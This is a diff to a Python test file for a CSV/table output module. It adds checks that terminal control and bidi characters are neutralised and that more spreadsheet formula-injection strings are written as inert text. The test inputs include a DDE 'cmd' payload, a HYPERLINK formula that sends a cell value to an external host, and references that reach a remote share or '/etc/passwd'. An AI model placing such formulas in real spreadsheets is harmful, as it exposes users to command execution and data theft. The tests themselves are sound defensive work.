@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 from brawlset.output import (
     Column,
     cell_text,
+    clean,
     display_width,
     format_facts,
     format_table,
@@ -87,6 +88,11 @@ def test_json_is_an_array_with_one_object_a_line() -> None:
 
 def test_json_without_rows_is_an_empty_array() -> None:
     assert as_json(["name"]) == []
+
+
+@pytest.mark.parametrize("mark", ["\u061c", "\u200e", "\u200f", "\u202e", "\u2066", "\x9b", "\x1b"])
+def test_what_a_terminal_obeys_and_what_turns_text_is_shown_as_a_question_mark(mark: str) -> None:
+    assert clean(f"a{mark}b") == "a?b"
 
 
 def test_two_columns_of_one_name_both_stay() -> None:
@@ -234,7 +240,7 @@ class TestFormulas:
     @pytest.mark.parametrize(
         "text",
         ["=1+1", "=HYPERLINK(\"http://example.org\"&A1)", "@SUM(A1)", "+HYPERLINK(\"x\")", "-2+3+cmd|' /C calc'!A0", "+cmd|'x'!A1",
-         "\t=1", "\r=1", "＝1+1", "+1:\nfoo|bar"],
+         "\t=1", "\r=1", "\n=1", "＝1+1", "+1:\nfoo|bar", "+'\\\\host\\[x.xlsx]S'!A1", "-'file:///etc/passwd'#$passwd.A1", "+[x.xlsx]S!A1"],
     )  # fmt: skip
     def test_what_a_spreadsheet_would_run_is_written_as_text(self, text):
         out = io.StringIO()
@@ -254,6 +260,7 @@ class TestFormulas:
             "−2: Exile it.",
             "_____",
             "A=B",
+            "+1: Say 'Fog!' or 'No!'",
             "1+*",
             "-",
             "",
